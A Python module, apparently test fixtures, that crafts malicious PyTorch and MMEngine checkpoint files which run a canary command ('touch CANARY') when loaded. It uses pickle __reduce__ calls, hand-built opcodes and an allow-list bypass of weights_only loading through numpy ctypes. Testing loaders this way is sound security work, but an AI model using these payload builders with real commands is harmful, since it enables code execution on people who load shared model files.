"""Checkpoints that execute a command when they are loaded without care: ``touch CANARY``."""

import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from io import BytesIO

import numpy as np
import torch
from torch import nn


class Call:
    """Pickled as a call of a function."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def name(module, attribute):
    return f'c{module}\n{attribute}\n'.encode()


def text(string):
    return b'X' + struct.pack('<I', len(string)) + string.encode()


def call(function, *arguments):
    return function + b'(' + b''.join(arguments) + b'tR'


def attribute(owner, *names):
    for each in names:
        owner = call(name('builtins', 'getattr'), owner, text(each))
    return owner


BUFFER = name('mmengine.logging.history_buffer', 'HistoryBuffer')
MULTIARRAY = np.zeros(1).__reduce__()[0].__module__
ARRAY = call(name(MULTIARRAY, '_reconstruct'), name('numpy', 'ndarray'), b'K\x00\x85', text('b'))


def write_archive(path, pickled):
    """A file as of ``torch.save`` around a pickle written by hand."""
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', b'\x80\x02' + pickled + b'.')
        archive.writestr('archive/version', b'3\n')


def checkpoint(**extra):
    """What MMEngine saves, in short."""
    hub = {'log_scalars': {}, 'runtime_info': {}, 'resumed_keys': {}}
    content = {'meta': {'epoch': 1, 'iter': 1}, 'state_dict': OrderedDict(), 'message_hub': hub}
    return {**content, **extra}


def system(path, command):
    """As the weights."""
    import os

    torch.save(Call(os.system, command), path)


def evaluated(path, command):
    torch.save(checkpoint(extra=Call(eval, f'__import__("os").system({command!r})')), path)


def executed(path, command):
    torch.save(checkpoint(extra=Call(exec, f'import os; os.system({command!r})')), path)


def popen(path, command):
    import subprocess

    torch.save(checkpoint(extra=Call(subprocess.check_call, command.split())), path)


def run_path(path, command):
    """A second file that is run as a script."""
    import runpy

    script = path.with_suffix('.py')
    script.write_text(f'import os; os.system({command!r})')
    torch.save(checkpoint(extra=Call(runpy.run_path, str(script))), path)


def pickled_pickle(path, command):
    import os

    torch.save(checkpoint(extra=Call(pickle.loads, pickle.dumps(Call(os.system, command)))), path)


def torch_function(path, command):
    """A function of PyTorch's own: a repository for ``torch.hub``."""
    folder = path.with_suffix('')
    folder.mkdir()
    (folder / 'hubconf.py').write_text(f'import os\ndef model(): os.system({command!r})')
    torch.save(checkpoint(extra=Call(torch.hub._load_local, str(folder), 'model')), path)


def in_optimizer(path, command):
    import os

    state = {'state': {0: {'step': torch.ones(1), 'more': Call(os.system, command)}}}
    torch.save(checkpoint(optimizer=state), path)


def in_meta(path, command):
    import os

    meta = {'epoch': 1, 'iter': 1, 'dataset_meta': {'sigmas': Call(os.system, command)}}
    torch.save(checkpoint(meta=meta), path)


def in_message_hub(path, command):
    import os

    hub = {'log_scalars': {'train/loss': Call(os.system, command)}, 'runtime_info': {}}
    torch.save(checkpoint(message_hub={**hub, 'resumed_keys': {}}), path)


def in_object_array(path, command):
    import os

    torch.save(checkpoint(extra=np.array([Call(os.system, command)], dtype=object)), path)


def legacy_stream(path, command):
    """PyTorch's form before 1.6."""
    import os

    content = checkpoint(extra=Call(os.system, command))
    torch.save(content, path, _use_new_zipfile_serialization=False)


def legacy_tar(path, command):
    """PyTorch's form before 0.2."""
    import os

    content = pickle.dumps(Call(os.system, command))
    with tarfile.open(path, 'w') as archive:
        for member in ('storages', 'tensors', 'pickle'):
            item = tarfile.TarInfo(member)
            item.size = len(content)
            archive.addfile(item, BytesIO(content))


def plain_pickle(path, command):
    import os

    path.write_bytes(pickle.dumps(checkpoint(extra=Call(os.system, command)), protocol=4))


def own_setstate(path, command):
    """``os.system`` by attributes of an array, called as the ``__setstate__`` of a buffer.

    Names no module but those that MMEngine 0.10.8 and its fork admit for ``weights_only``.
    """
    function = attribute(ARRAY, 'ctypes', '_ctypes', '_os', 'system')
    state = b'}' + text('__setstate__') + function + b's'
    write_archive(path, call(BUFFER) + state + b'b' + text(command) + b'b')


def bytes_as_pointers(path, command):
    """An array of objects whose addresses the file chooses; no command, but as good as one."""
    objects = call(name('numpy', 'ndarray'), b'K\x01\x85', text('O'), b'U\x08' + b'A' * 8)
    write_archive(path, b'}' + text('state_dict') + objects + b's')


class Script(nn.Module):
    def __init__(self, path):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(2))
        self.path = path

    def forward(self, x):
        return x + self.weight

    @torch.jit.export
    def __getstate__(self):
        return self.path, self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]):
        self.path, self.weight, self.training = state
        torch.save(state[1], state[0])


def torchscript(path, command):
    """Saves a tensor where it is told to: TorchScript has no shell."""
    torch.jit.script(Script(command.split()[-1])).save(str(path))


KINDS = [
    system,
    evaluated,
    executed,
    popen,
    run_path,
    pickled_pickle,
    torch_function,
    in_optimizer,
    in_meta,
    in_message_hub,
    in_object_array,
    legacy_stream,
    legacy_tar,
    plain_pickle,
    own_setstate,
    torchscript,
]
